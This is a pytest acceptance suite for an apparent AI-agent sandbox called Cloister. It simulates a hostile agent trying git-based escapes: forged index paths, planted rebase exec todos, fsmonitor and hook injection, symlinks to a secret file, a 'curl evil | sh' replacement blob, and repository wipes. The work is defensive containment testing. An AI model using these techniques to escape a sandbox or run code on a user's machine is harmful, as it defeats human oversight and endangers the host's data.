"""Issue 18 acceptance: the human's git directory is never the agent's.

Each escape is tried as a hostile agent would, from inside a real cloister started by
the real ``cloister`` command, once as root and once as a non-root host user (the
module runs twice, one guardian each). Then the human uses git as people do, on the
host, and everything that could fall for it runs: the human's own ``git status``,
``diff``, ``log``, ``merge --abort``, ``rebase --continue``/``--abort``,
``cherry-pick --continue``/``--abort``, ``sparse-checkout set``, ``restore .``,
``submodule update`` and ``commit -a``; ``hostexec git status``/``diff``/``log`` from
inside; ``cloister sync``, ``stop``, ``start`` and ``restore``. A planted command only
touches a marker file: the marker is the proof that code ran. A file of the human's
outside the project holds a secret line: it must never be printed. Afterwards the
human's refs are what they were, but ``refs/cloister/…`` (and a fast-forward where one
is due), and ``git fsck`` is clean.

Attacks (the six of the last round, the three of the one before, and two wipes):

====================================  ==============================================
attack                                 test
====================================  ==============================================
forged (split) index naming ``../x``  test_a_forged_index_is_the_agents_own
``exec<TAB>``/``strategy`` state       test_a_made_up_operation_in_progress_runs_nothing
autostash / ORIG_HEAD / sequencer      test_autostash_and_heads_of_the_agent_write_nothing
dormant ``config.worktree`` fsmonitor  test_a_dormant_worktree_config_stays_dormant
gitlink on a branch + nested repo      test_a_gitlink_on_a_branch_merged_after_stop
``refs/replace`` over a blob           test_replace_refs_never_reach_the_human
1,100-level directories                test_deep_directories_break_nothing
gitlink with ``core.fsmonitor``        test_a_gitlink_in_the_agents_index_is_its_own
symlinked packed-refs/shallow/alt.     test_links_in_its_git_directory_lead_nowhere
``core.hooksPath`` in the tree         test_hooks_in_the_work_tree_stay_the_humans
``rm -rf /work/.git``                  test_rm_rf_dot_git_loses_nothing_of_the_humans
``reset --hard HEAD~3 && gc --prune``  test_reset_and_prune_inside_prune_nothing_of_yours
====================================  ==============================================

And the agent's normal work arrives (test_the_agents_work_arrives_and_yours_reaches_it,
test_a_worktree_cloisters_branch_comes_back, test_hostexec_git_push_pushes_the_agents_branch,
test_hostexec_git_never_writes_a_protected_path).
"""

from __future__ import annotations

import hashlib
import shlex
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import docker
import pytest

from cloister_core import beneath
from tests.cli.cli_support import (
    SLIM_IMAGE,
    CloisterCli,
    HostUser,
    Result,
    exec_in,
    exec_ok,
    free_port,
    git,
    git_executable,
    guardian,
    host_user,
    make_repo,
    remove_containers,
    run_command,
    squash,
    unique,
    wait_until,
)

if TYPE_CHECKING:
    from tests.conftest import SkipOrFail

pytestmark = [pytest.mark.docker, pytest.mark.timeout(1800)]

SECRET = "SECRET-LINE-7c2e the-human-s-private-data"
SYNC_SECONDS = 20.0  # the watch syncs within seconds; a loaded CI machine gets leeway
CONFIG = f"""\
# Written by tests/cli/test_acceptance_owngit.py
defaults:
  image: {SLIM_IMAGE}
  memory: 512m
  pids: 256
guardian:
  ui_port: {{port}}
hostexec:
  auto_approve:
    - pattern: "^git (status|log|diff)( .*)?$"
    - pattern: "^git checkout [A-Za-z0-9._/:-]+$"
    - pattern: "^git (restore --source=[A-Za-z0-9._/:-]+ [A-Za-z0-9._/-]+)$"
    - pattern: "^git push origin [A-Za-z0-9._/-]+$"
"""


# -- one guardian per host user ------------------------------------------------------------------


@pytest.fixture(scope="module", params=["root", "non-root"])
def user(request: pytest.FixtureRequest, skip_or_fail: SkipOrFail) -> Iterator[HostUser | None]:
    if request.param == "root":
        yield None
        return
    with host_user(skip_or_fail) as account:
        yield account


@pytest.fixture(scope="module")
def cli(
    docker_client: docker.DockerClient,
    tmp_path_factory: pytest.TempPathFactory,
    skip_or_fail: SkipOrFail,
    user: HostUser | None,
) -> Iterator[CloisterCli]:
    root = tmp_path_factory.mktemp("owngit") if user is None else user.mktemp("owngit")
    config = CONFIG.format(port=free_port())
    with guardian(docker_client, root, config, skip_or_fail, user=user) as tool:
        yield tool


@dataclass
class Scene:
    """A repository of the host user's, its cloister, a marker and a secret."""

    cli: CloisterCli
    user: HostUser | None
    repo: Path
    name: str
    marker: Path  # planted code touches it
    secret: Path  # a file of the human's outside the project
    started: list[str]

    def git(self, *args: str) -> str:
        return git(self.repo, *args, user=self.user)

    def human(self, *args: str) -> str:
        """The human's own git (failures are fine); everything it printed."""
        argv = [git_executable(), "-C", str(self.repo), *args]
        result = (
            run_command(argv, timeout=60) if self.user is None else self.user.run(argv, timeout=60)
        )
        return result.stdout + result.stderr

    def inside(self, script: str) -> Result:
        """*script* in the cloister, with MARKER and SECRET set to the host paths."""
        exports = f"MARKER={shlex.quote(str(self.marker))} SECRET={shlex.quote(str(self.secret))}"
        return exec_in(self.name, f"export {exports}; {script}")

    def hostexec(self, *argv: str) -> str:
        result = exec_in(self.name, shlex.join(["hostexec", *argv]))
        return result.stdout + result.stderr

    def start(self, *args: str, name: str | None = None) -> Result:
        started = self.cli.ok("start", "-d", *args, cwd=self.repo)
        self.started.append(name or self.name)
        return started

    def write(self, relative: str, text: str) -> Path:
        path = self.repo / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        if self.user is not None:
            self.user.adopt(path)
        return path

    def refs(self) -> dict[str, str]:
        """The human's refs, but Cloister's namespace for the agent's."""
        listed = self.git("for-each-ref", "--format=%(objectname) %(refname)")
        return {
            name: oid
            for oid, _, name in (line.partition(" ") for line in listed.splitlines())
            if not name.startswith("refs/cloister/")
        }


@pytest.fixture
def scene(cli: CloisterCli, user: HostUser | None) -> Iterator[Scene]:
    name = unique("own")
    base = cli.root / f"{name}-host"
    if user is None:
        base.mkdir()
    else:
        made = user.run(["mkdir", "--", str(base)])
        assert made.returncode == 0, made.describe()
    repo = make_repo(base / name, user=user)
    secret = base / "home-secret"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    if user is not None:
        user.adopt(secret)
    started: list[str] = []
    found = Scene(cli, user, repo, name, base / "planted-code-ran", secret, started)
    try:
        yield found
    finally:
        for each in started:
            cli.run("stop", each)
        remove_containers(started)


def no_escape(scene: Scene, output: str) -> None:
    assert not scene.marker.exists(), "the agent's code ran on the host"
    assert SECRET not in output, "a file of the human's was printed"
    assert scene.secret.read_text(encoding="utf-8") == SECRET + "\n"


def human_battery(scene: Scene) -> str:
    """What a human runs in a repository an agent worked in, that changes no ref."""
    said = ""
    for args in (
        ["status"],
        ["diff"],
        ["diff", "--cached"],
        ["log", "--all", "--oneline", "-5"],
        ["show", "HEAD"],
        ["merge", "--abort"],
        ["rebase", "--continue"],
        ["rebase", "--abort"],
        ["cherry-pick", "--continue"],
        ["cherry-pick", "--abort"],
        ["revert", "--abort"],
        ["sparse-checkout", "set", "--no-cone", "/*"],
        ["status"],
        ["sparse-checkout", "disable"],
        ["submodule", "update"],
        ["fsck"],
    ):
        said += scene.human(*args)
    return said


def human_commits(scene: Scene) -> str:
    """What a human runs that writes: the work tree back, then a commit of everything."""
    scene.write("README.md", "edited by the human\n")
    said = scene.human("restore", ".")
    scene.write("human.txt", "the human's own work\n")
    said += scene.human("add", "human.txt")
    said += scene.human("commit", "-a", "-q", "-m", "the human's commit")
    return said + scene.human("status")


def everything_runs_nothing(scene: Scene, *, running: bool = True) -> None:
    """The whole battery, around a sync, a stop, a start and a restore."""
    refs = scene.refs()
    said = human_battery(scene)
    if running:
        for argv in (["git", "status"], ["git", "diff"], ["git", "log", "--oneline", "-3"]):
            said += scene.hostexec(*argv)
        synced = scene.cli.run("sync", scene.name, cwd=scene.repo)
        said += synced.output
    no_escape(scene, said)
    stopped = scene.cli.run("stop", scene.name)
    said += stopped.output + human_battery(scene)
    no_escape(scene, said)
    assert scene.refs() == refs, "the human's refs moved"
    assert "error" not in scene.human("fsck", "--no-dangling").lower()
    restarted = scene.start()
    said += restarted.output + scene.cli.run("stop", scene.name).output
    restored = scene.cli.run("restore", scene.name)
    said += restored.output + human_battery(scene) + human_commits(scene)
    no_escape(scene, said)
    assert scene.git("log", "-1", "--format=%s") == "the human's commit"


# -- the attacks ---------------------------------------------------------------------------------


def forged_index(path: str) -> bytes:
    """An index (version 2) with one entry: *path*, the empty blob; git checks an entry's
    path when it writes one, never when it reads the file back."""
    empty = bytes.fromhex("e69de29bb2d1d6434b8b29ae775ad8c2e48c5391")
    name = path.encode()
    entry = b"\0" * 24 + (0o100644).to_bytes(4, "big") + b"\0" * 12 + empty
    entry += min(len(name), 0xFFF).to_bytes(2, "big") + name
    entry += b"\0" * (8 - (len(entry) % 8))
    body = b"DIRC" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + entry
    return body + hashlib.sha1(body, usedforsecurity=False).digest()


def test_a_forged_index_is_the_agents_own(scene: Scene) -> None:
    scene.start()
    forged = scene.write("forged-index", "")
    forged.write_bytes(forged_index("../home-secret"))
    scene.inside(
        "cp forged-index .git/index && cp .git/index .git/sharedindex.$(sha1sum .git/index"
        " | cut -c1-40) && rm forged-index"
    )
    said = scene.hostexec("git", "diff") + scene.human("diff") + scene.human("restore", ".")
    no_escape(scene, said)
    everything_runs_nothing(scene)


def test_a_made_up_operation_in_progress_runs_nothing(scene: Scene) -> None:
    scene.start()
    scene.write("tools.sh", '#!/bin/sh\ntouch "$MARKER"\n')
    scene.inside(
        "chmod +x tools.sh; mkdir -p .git/rebase-merge .git/sequencer"
        ' && printf "exec\\ttouch %s\\n" "$MARKER" > .git/rebase-merge/git-rebase-todo'
        " && echo x/../tools.sh > .git/rebase-merge/strategy"
        " && git rev-parse HEAD > .git/rebase-merge/head-name"
        ' && printf "[options]\\n\\tstrategy = x/../tools.sh\\n" > .git/sequencer/opts'
        ' && printf "exec touch %s\\n" "$MARKER" > .git/sequencer/todo'
        " && git rev-parse HEAD > .git/CHERRY_PICK_HEAD"
    )
    everything_runs_nothing(scene)


def test_autostash_and_heads_of_the_agent_write_nothing(scene: Scene) -> None:
    scene.start()
    # A stash-shaped commit whose tree holds .husky/pre-commit and .vscode/tasks.json.
    made = scene.inside(
        'hook=$(printf "#!/bin/sh\\ntouch %s\\n" "$MARKER" | git hash-object -w --stdin)'
        ' && tasks=$(echo "{}" | git hash-object -w --stdin)'
        ' && husky=$(printf "100755 blob %s\\tpre-commit\\n" "$hook" | git mktree)'
        ' && vscode=$(printf "100644 blob %s\\ttasks.json\\n" "$tasks" | git mktree)'
        ' && tree=$(printf "040000 tree %s\\t.husky\\n040000 tree %s\\t.vscode\\n"'
        ' "$husky" "$vscode" | git mktree)'
        " && base=$(git rev-parse HEAD)"
        ' && index=$(git commit-tree -p "$base" -m index "$tree")'
        ' && stash=$(git commit-tree -p "$base" -p "$index" -m stash "$tree")'
        " && mkdir -p .git/rebase-merge .git/sequencer"
        " && for f in MERGE_AUTOSTASH ORIG_HEAD rebase-merge/autostash sequencer/head;"
        ' do echo "$stash" > .git/$f; done && echo "$stash"'
    )
    assert made.returncode == 0, made.describe()
    everything_runs_nothing(scene)
    assert not (scene.repo / ".husky" / "pre-commit").exists()
    assert not (scene.repo / ".vscode" / "tasks.json").exists()


def test_a_dormant_worktree_config_stays_dormant(scene: Scene) -> None:
    scene.start()
    scene.inside(
        'printf "[core]\\n\\tfsmonitor = touch %s; echo\\n" "$MARKER" > .git/config.worktree'
    )
    no_escape(
        scene, scene.human("sparse-checkout", "set", "--no-cone", "/*") + scene.human("status")
    )
    everything_runs_nothing(scene)


PLANT_SUB = (
    "mkdir sub && cd sub && git init -q && git config user.name a && git config user.email a@b"
    ' && echo s > f && git add f && git commit -qm s && git config core.fsmonitor "touch $MARKER;'
    ' echo" && cd ..'
)


def test_a_gitlink_on_a_branch_merged_after_stop(scene: Scene) -> None:
    scene.start()
    planted = scene.inside(
        f"{PLANT_SUB} && git checkout -qb agent-work && git add sub && git commit -qm 'add sub'"
        " && git checkout -q -"
    )
    assert planted.returncode == 0, planted.describe()
    stopped = scene.cli.ok("stop", scene.name)
    assert "moved a repository the agent made" in squash(stopped.output), stopped.describe()
    said = scene.human("merge", "-q", "--no-edit", f"refs/cloister/{scene.name}/agent-work")
    said += scene.human("status") + scene.human("diff") + scene.human("commit", "-qam", "x")
    no_escape(scene, said)


def test_a_gitlink_in_the_agents_index_is_its_own(scene: Scene) -> None:
    scene.start()
    planted = scene.inside(f"{PLANT_SUB} && git add sub")
    assert planted.returncode == 0, planted.describe()
    scene.write("sub/f", "changed by the human\n")
    # The agent's index is its own: the human's git sees no gitlink there. (A `git add -A`
    # of yours would add the agent's repository as one: see the README; stop moves it.)
    no_escape(
        scene, scene.human("status") + scene.human("diff") + scene.human("commit", "-qam", "h")
    )
    everything_runs_nothing(scene)


def test_replace_refs_never_reach_the_human(scene: Scene) -> None:
    scene.start()
    scene.inside(
        "evil=$(echo 'curl evil | sh' | git hash-object -w --stdin)"
        " && git replace $(git rev-parse HEAD:README.md) $evil"
        " && git commit -q --allow-empty -m 'an innocent commit'"
    )
    scene.cli.ok("sync", scene.name, cwd=scene.repo)
    assert scene.git("for-each-ref", "refs/replace") == ""
    assert scene.git("show", "HEAD:README.md") == "hello"
    assert "curl evil" not in scene.human("log", "-p", "--all")
    everything_runs_nothing(scene)


DEEP = "d=$1; for i in $(seq 1100); do d=$d/d; done; mkdir -p $d && touch $d/x"


def test_deep_directories_break_nothing(scene: Scene) -> None:
    scene.start()
    state = scene.cli.data_dir / "agents" / scene.name / "claude" / "deep"
    try:
        for where in ("/work/.git/deep", "/work/deep", "$HOME/.claude/deep"):
            made = scene.inside(f"set -- {where}; {DEEP}")
            assert made.returncode == 0, made.describe()
        assert state.is_dir()
        reviewed = scene.cli.run("review", scene.name)
        assert "Traceback" not in reviewed.output, reviewed.describe()
        everything_runs_nothing(scene)
        gc = scene.cli.run("gc", "--yes")
        assert gc.returncode == 0, gc.describe()
    finally:  # pytest's own clean-up of old temporary directories recurses
        beneath.remove_tree(scene.repo / "deep")
        beneath.remove_tree(state)


@pytest.mark.parametrize("location", ["packed-refs", "shallow", "objects/info/alternates"])
def test_links_in_its_git_directory_lead_nowhere(scene: Scene, location: str) -> None:
    scene.start()
    scene.inside(f'ln -sf "$SECRET" .git/{location}; git status >/dev/null 2>&1; true')
    said = scene.hostexec("git", "status") + scene.cli.run("sync", scene.name).output
    no_escape(scene, said)
    everything_runs_nothing(scene)


def test_hooks_in_the_work_tree_stay_the_humans(scene: Scene) -> None:
    hook = scene.write(
        ".husky/pre-commit", '#!/bin/sh\n[ -n "$HOOK_LOG" ] && echo ran >> "$HOOK_LOG"\nexit 0\n'
    )
    hook.chmod(0o755)
    scene.git("add", ".husky")
    scene.git("commit", "-qm", "hooks")
    scene.git("config", "core.hooksPath", ".husky")
    started = scene.start()
    assert ".husky" in squash(started.stderr), started.describe()
    for attempt in (
        'echo "touch $MARKER" >> .husky/pre-commit',
        "rm -rf .husky",
        "mv .husky .husky-old",
        'printf "#!/bin/sh\\ntouch %s\\n" "$MARKER" > .husky/post-commit',
    ):
        assert scene.inside(attempt).returncode != 0, attempt
    # The agent still commits, through the project's hook (HOOK_LOG unset there).
    committed = scene.inside("echo x > x && git add x && git commit -qm inside")
    assert committed.returncode == 0, committed.describe()
    log = scene.repo.parent / "human-hook-log"
    scene.write("y", "y\n")
    scene.git("add", "y")
    argv = ["env", f"HOOK_LOG={log}", git_executable(), "-C", str(scene.repo), "commit", "-qm", "h"]
    done = run_command(argv, timeout=60) if scene.user is None else scene.user.run(argv)
    assert done.returncode == 0, done.describe()
    assert log.read_text(encoding="utf-8") == "ran\n"
    assert not scene.marker.exists()


def test_rm_rf_dot_git_loses_nothing_of_the_humans(scene: Scene) -> None:
    scene.start()
    refs = scene.refs()
    scene.inside("rm -rf /work/.git 2>/dev/null; true")
    assert scene.refs() == refs
    assert "error" not in scene.human("fsck").lower()
    synced = scene.cli.run("sync", scene.name)
    assert synced.returncode == 1, synced.describe()
    assert "Traceback" not in synced.output, synced.describe()
    stopped = scene.cli.ok("stop", scene.name)
    assert "could not be brought back" in squash(stopped.output), stopped.describe()
    again = scene.start()  # the unreadable git directory is set aside, not reused
    assert "kept at" in squash(again.output), again.describe()
    assert exec_ok(scene.name, "git status --short").returncode == 0
    assert scene.refs() == refs
    everything_runs_nothing(scene)


def test_reset_and_prune_inside_prune_nothing_of_yours(scene: Scene) -> None:
    for number in range(4):
        scene.write(f"file{number}.txt", f"{number}\n")
        scene.git("add", ".")
        scene.git("commit", "-qm", f"commit {number}")
    scene.start()
    refs = scene.refs()
    scene.inside(
        "git reset -q --hard HEAD~3 && git reflog expire --expire=now --all"
        " && git gc -q --prune=now"
    )
    synced = scene.cli.ok("sync", scene.name)
    assert scene.refs() == refs, synced.describe()  # backwards: never a fast-forward
    branch = scene.git("symbolic-ref", "--short", "HEAD")
    assert scene.git("rev-parse", f"refs/cloister/{scene.name}/{branch}") == scene.git(
        "rev-parse", "HEAD~3"
    )
    assert "error" not in scene.human("fsck").lower()
    everything_runs_nothing(scene)


# -- the agent's normal work arrives -------------------------------------------------------------


def test_the_agents_work_arrives_and_yours_reaches_it(scene: Scene) -> None:
    scene.start()
    branch = scene.git("symbolic-ref", "--short", "HEAD")
    exec_ok(scene.name, "echo one > one.txt && git add one.txt && git commit -qm 'agent one'")
    # The watch brings it back within seconds, and your branch fast-forwards.
    wait_until(
        lambda: scene.git("log", "-1", "--format=%s") == "agent one", SYNC_SECONDS, "a fast-forward"
    )
    assert scene.git("status", "--porcelain") == ""
    exec_ok(
        scene.name,
        "git checkout -qb topic && echo t > t.txt && git add t.txt && git commit -qm topic"
        " && git checkout -q -",
    )
    scene.cli.ok("sync", scene.name)
    assert scene.git("log", "-1", "--format=%s", f"refs/cloister/{scene.name}/topic") == "topic"
    assert "topic" not in scene.git("branch", "--list")  # never one of yours
    # Yours reach it: your commit on the branch it left alone.
    scene.write("human.txt", "h\n")
    scene.git("add", "human.txt")
    scene.git("commit", "-qm", "human two")
    scene.cli.ok("sync", scene.name)
    inside = exec_ok(scene.name, "git log -1 --format=%s && git status --porcelain").stdout
    assert inside.splitlines() == ["human two"], inside
    assert f"host/{branch}" in exec_ok(scene.name, "git branch -a").stdout
    stopped = scene.cli.ok("stop", scene.name)
    assert not (scene.cli.data_dir / "gitdirs" / scene.name).exists(), stopped.describe()
    assert "error" not in scene.human("fsck").lower()


def test_a_worktree_cloisters_branch_comes_back(scene: Scene) -> None:
    worktree_name = f"{scene.name}-feature"
    started = scene.start("-b", "feature", name=worktree_name)
    assert worktree_name in squash(started.stderr), started.describe()
    directory = scene.cli.worktree(scene.name, "feature")
    # The human's git there is told it is no repository, rather than read the agent's.
    argv = [git_executable(), "-C", str(directory), "status"]
    there = run_command(argv) if scene.user is None else scene.user.run(argv)
    assert there.returncode != 0, there.describe()
    assert "not a git repository" in there.stderr, there.describe()
    exec_ok(worktree_name, "echo f > f.txt && git add f.txt && git commit -qm feature-work")
    scene.cli.ok("sync", worktree_name)
    assert scene.git("log", "-1", "--format=%s", "feature") == "feature-work"
    assert scene.git("rev-parse", "feature") == scene.git(
        "rev-parse", f"refs/cloister/{worktree_name}/feature"
    )
    listed = scene.cli.json("worktree", "list", "--json")
    assert [row["dirty"] for row in listed if row["path"] == str(directory)] == [False]


def test_hostexec_git_push_pushes_the_agents_branch(scene: Scene, tmp_path: Path) -> None:
    remote = scene.repo.parent / "remote.git"
    git(scene.repo.parent, "init", "-q", "--bare", str(remote), user=scene.user)
    port = free_port()
    daemon_argv = [
        git_executable(), "daemon", "--reuseaddr", "--export-all", "--enable=receive-pack",
        f"--base-path={scene.repo.parent}", "--listen=127.0.0.1", f"--port={port}",
        str(scene.repo.parent),
    ]  # fmt: skip
    command = daemon_argv if scene.user is None else scene.user.command(daemon_argv)
    daemon = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        scene.git("remote", "add", "origin", f"git://127.0.0.1:{port}/remote.git")
        scene.start()
        exec_ok(
            scene.name,
            "git checkout -qb shipped && echo s > s.txt && git add s.txt && git commit -qm shipped",
        )
        pushed = exec_in(scene.name, "hostexec git push origin shipped")
        assert pushed.returncode == 0, pushed.describe()
        assert git(remote, "log", "-1", "--format=%s", "shipped", user=scene.user) == "shipped"
    finally:
        daemon.terminate()
        daemon.wait(timeout=10)


def test_hostexec_git_never_writes_a_protected_path(scene: Scene) -> None:
    scene.start()
    made = scene.inside(
        "git checkout -qb evil && mkdir -p .cloister-x"
        ' && blob=$(printf "touch %s\\n" "$MARKER" | git hash-object -w --stdin)'
        ' && git update-index --add --cacheinfo "100644,$blob,.envrc" && git commit -qm evil'
        " && git rev-parse HEAD"
    )
    assert made.returncode == 0, made.describe()
    commit = made.stdout.strip().splitlines()[-1]
    scene.cli.ok("sync", scene.name)
    for target in (f"refs/cloister/{scene.name}/evil", commit, commit[:10]):
        refused = scene.hostexec("git", "checkout", target)
        assert "protected path" in refused, refused
    refused = scene.hostexec("git", "restore", f"--source={commit}", ".envrc")
    assert "protected path" in refused, refused
    assert not (scene.repo / ".envrc").is_file()  # while it runs, an empty stand-in
    everything_runs_nothing(scene)


def test_the_start_tells_where_the_git_directory_is(scene: Scene) -> None:
    scene.start()
    where = exec_ok(scene.name, "git rev-parse --absolute-git-dir && cat .git/config").stdout
    assert where.splitlines()[0] == "/work/.git"
    assert "Written by Cloister" in where
    assert exec_in(scene.name, "echo x >> .git/config").returncode != 0  # read-only
    assert exec_in(scene.name, "touch .git/hooks/pre-commit").returncode != 0
    # It starts where the human's is, but the human's own .git is not in the container
    # (git init made a `description` there, which the cloister's has not).
    assert scene.git("rev-parse", "HEAD") in exec_ok(scene.name, "git rev-parse HEAD").stdout
    assert (scene.repo / ".git" / "description").exists()
    assert exec_in(scene.name, "test -e /work/.git/description").returncode != 0
